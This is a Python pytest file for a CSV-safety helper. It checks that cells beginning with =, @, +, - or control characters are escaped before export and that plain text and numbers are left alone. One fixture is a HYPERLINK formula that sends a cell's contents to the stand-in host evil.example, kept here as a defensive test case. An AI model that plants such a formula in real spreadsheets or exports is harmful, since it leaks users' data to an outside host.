"""CSV injection: cells a spreadsheet would run as a formula come out of `to_csv` escaped,
everything else exactly as given."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from hotline.core.csvsafe import safe_cell, to_csv

#: What a transcription or a typed field could hold, and how it must reach the spreadsheet.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': (
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    ),
    "@SUM(1)": "'@SUM(1)",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "+8613800138000": "'+8613800138000",  # a phone number stays text, not 8.6E+12
    "-3.0%": "'-3.0%",  # a signed change as the page shows it
}
PLAIN = ["12315 热线", "a=b", "投诉 -2+3", "x@example.com", "'quoted", "", "0.5"]


@pytest.mark.parametrize(("given", "written"), FORMULAS.items())
def test_formula_starts_are_escaped(given: str, written: str) -> None:
    assert safe_cell(given) == written
    assert list(csv.reader(io.StringIO(to_csv([["head"], [given]])))) == [["head"], [written]]


@pytest.mark.parametrize("given", PLAIN)
def test_other_text_is_untouched(given: str) -> None:
    assert safe_cell(given) == given


def test_numbers_and_nothing() -> None:
    assert [safe_cell(v) for v in (-3, -2.5, Decimal("-1.20"), True, None)] == [
        -3,
        -2.5,
        Decimal("-1.20"),
        True,
        "",
    ]
    assert to_csv([["a", "b", "c"], [-3, None, "-3"]]) == "a,b,c\r\n-3,,'-3\r\n"
